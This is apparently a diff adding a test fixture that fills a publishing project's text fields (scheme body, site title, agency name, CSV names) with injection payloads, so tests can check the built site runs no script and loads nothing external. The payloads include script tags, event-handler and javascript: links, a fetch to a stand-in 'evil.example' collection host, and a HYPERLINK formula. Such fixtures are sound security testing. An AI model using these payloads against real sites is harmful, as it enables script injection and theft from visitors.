@@ -1,0 +1,83 @@
+"""A project whose every user-written text tries to inject markup, script or an outside request:
+scheme prose and names, the site title, the agency name, people's names in a results sheet. The
+site built from it must run no script of theirs and load nothing from outside (tests/publish and
+tests/browser use it)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+from tests.archive.util import make_project
+
+AGENCY, SCHEME = "yunxi-czj", "s003-p2"
+EPOCH = "1752148800"  # 2025-07-10 12:00 UTC: the 2025-Q2 公示 (from 2025-07-09) is open
+EVIL = "evil.example"
+
+BODY = f"""正文。<script>alert('body-script')</script>
+
+[点这里](javascript:alert('md-link')) 与 <a href="javascript:alert('a-link')">链接</a>
+
+<img src=x onerror="alert('img-onerror')"> <iframe src="https://{EVIL}/frame"></iframe>
+
+*强调*{{: onmouseover="alert('attr-list')" }}
+
+<p markdown="1" onclick="alert('md-in-html')">**x**</p>
+
+<img src="\\\\{EVIL}/unc.png"> <img src="https&#58;//{EVIL}/entity.png"> <img srcset="a.png 1x, https://{EVIL}/2x.png 2x">
+
+<meta http-equiv="refresh" content="0; url=https://{EVIL}/"> <script>fetch('https://{EVIL}/collect')</script>
+
+原文出处：https://www.gov.cn/zhengce/content/2020-01/01/content_1.htm（只是引用，不是请求）
+"""
+
+NAMES = [
+    "<img src=x onerror=alert('name-img')>",
+    "*x*{: onmouseover=alert('name-attr') }",
+    "=HYPERLINK(\"https://evil.example/\",\"点我\")",
+    "张三\n\n<script>alert('name-blank-line')</script>",
+    "[李四](javascript:alert('name-link'))",
+]
+
+
+def _yaml_line(text: str) -> str:
+    import json
+
+    return json.dumps(text, ensure_ascii=False)
+
+
+def make_injected_project(dest: Path) -> Path:
+    root = make_project(dest, [AGENCY])
+    scheme = root / "schemes" / f"{SCHEME}.yaml"
+    text = scheme.read_text("utf-8")
+    indented = "\n".join("      " + line if line else "" for line in BODY.splitlines())
+    replacements = [
+        ("name: 公务员平时考核实施方案\n", "name: " + _yaml_line("公务员平时考核<script>alert('scheme-name')</script>方案") + "\n"),
+        ("source: 003 财政局公务员平时考核工作方案7篇 · 篇二\n", "source: 003 篇二 https://www.gov.cn/zhengce/2021/x.htm <script>alert('source')</script>\n"),
+        ("    body: 本单位非领导成员公务员（含参公人员）。\n", "    body: |\n" + indented + "\n"),
+    ]
+    for old, new in replacements:
+        assert old in text, old
+        text = text.replace(old, new, 1)
+    scheme.write_text(text, encoding="utf-8")
+    site = root / "content" / "site.yaml"
+    site.write_text(site.read_text("utf-8").replace("title: 考核办法与考核结果（示例）",
+                                                    "title: " + _yaml_line("考核</title><script>alert('site-title')</script>{: onclick=alert(1) }")), encoding="utf-8")
+    agency = root / "content" / AGENCY / "agency.yaml"
+    agency.write_text(agency.read_text("utf-8").replace("name: 云溪县财政局", "name: " + _yaml_line("云溪县财政局<svg onload=alert('agency')>")), encoding="utf-8")
+    for label in ("Q2", "Q3"):
+        sheet = root / "content" / AGENCY / SCHEME / "2025" / f"{label}.csv"
+        raw = sheet.read_bytes()
+        try:
+            decoded = raw.decode("utf-8-sig")
+        except UnicodeDecodeError:
+            decoded = raw.decode("gb18030")
+        rows = list(csv.reader(io.StringIO(decoded)))
+        column = rows[0].index("姓名")
+        for row, name in zip(rows[1:], NAMES, strict=False):
+            row[column] = name.replace("\n", " ")  # a CSV cell can hold a line break, the sheet reader keeps one line
+        buffer = io.StringIO(newline="")
+        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
+        sheet.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))
+    return root
